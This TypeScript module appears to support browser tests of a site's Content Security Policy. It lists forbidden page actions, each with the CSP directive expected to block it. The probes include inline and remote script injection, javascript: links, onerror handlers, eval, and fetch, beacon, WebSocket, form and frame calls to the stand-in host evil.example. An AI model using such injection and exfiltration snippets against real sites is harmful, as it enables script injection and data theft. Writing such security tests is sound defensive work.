/** A site that no page of ours may ask. */
export const EVIL = 'evil.example';

// What is told as a text to `setTimeout` runs as the page's own, not as the driver's, which may do more.
const asPage = (code: string) =>
  `await new Promise((done, failed) => setTimeout(() => { try { ${code}; done(); } catch (cause) { failed(cause); } }));`;
const element = (name: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${properties}));`;

/** What a page of ours may not do even where a program of somebody else's ran in it, and the rule that it breaks. */
export const FORBIDDEN: readonly (readonly [what: string, rule: RegExp, code: string])[] = [
  [
    'a script within the page',
    /^(script-src|require-trusted-types)/,
    `const script = document.createElement('script'); script.append('executed = 1'); document.body.append(script);`,
  ],
  [
    'a script as an address',
    /^(script-src|require-trusted-types)/,
    `const link = document.createElement('a'); link.setAttribute('href', 'javascript:executed = 1'); document.body.append(link); link.click();`,
  ],
  [
    'a script as an attribute',
    /^(script-src|require-trusted-types)/,
    `const image = document.createElement('img'); image.setAttribute('onerror', 'executed = 1'); image.src = 'data:,'; document.body.append(image);`,
  ],
  [
    'a script from elsewhere',
    /^(script-src|require-trusted-types)/,
    `const script = document.createElement('script'); script.setAttribute('src', 'https://${EVIL}/x.js'); document.body.append(script);`,
  ],
  ['eval', /^(script-src|require-trusted-types)/, asPage(`(0, eval)('executed = 1')`)],
  ['a function from text', /^(script-src|require-trusted-types)/, asPage(`new Function('executed = 1')()`)],
  ['a timer with a text', /^(script-src|require-trusted-types)/, asPage(`setTimeout('executed = 1')`)],
  ['a request', /^connect-src/, `await fetch('https://${EVIL}/');`],
  ['a request to LinkedIn', /^connect-src/, `await fetch('https://www.linkedin.com/');`],
  ['a beacon', /^connect-src/, `navigator.sendBeacon('https://${EVIL}/', 'x');`],
  ['a socket', /^connect-src/, `new WebSocket('wss://${EVIL}/');`],
  ['a picture from elsewhere', /^img-src/, element('img', `{ src: 'https://${EVIL}/x.png' }`)],
  ['a style from elsewhere', /^style-src/, element('link', `{ rel: 'stylesheet', href: 'https://${EVIL}/x.css' }`)],
  ['a style within the page', /^style-src/, element('style', `{ textContent: 'body { color: red }' }`)],
  ['a frame', /^(frame|child|default)-src/, element('iframe', `{ src: 'https://${EVIL}/' }`)],
  [
    'a form',
    /^form-action/,
    `const form = document.body.appendChild(document.createElement('form')); form.action = 'https://${EVIL}/'; form.submit();`,
  ],
  [
    'another base',
    /^base-uri/,
    `document.head.append(Object.assign(document.createElement('base'), { href: 'https://${EVIL}/' }));`,
  ],
];

/** Runs in a page of ours: does one of these, and tells which rules were broken by it and whether it ran all the same. */
export const tried = (code: string): string => `(async () => {
  const broken = [];
  const hear = ({ effectiveDirective }) => broken.push(effectiveDirective);
  document.addEventListener('securitypolicyviolation', hear);
  globalThis.executed = 0;
  let refused = '';
  try { ${code} } catch (cause) { refused = cause.name; }
  for (let turn = 0; turn < 100 && broken.length === 0; turn += 1) await new Promise((next) => setTimeout(next, 20));
  document.removeEventListener('securitypolicyviolation', hear);
  return { broken, refused, executed: globalThis.executed, address: location.pathname };
})()`;
export type Tried = {
  readonly broken: string[];
  readonly refused: string;
  readonly executed: number;
  readonly address: string;
};
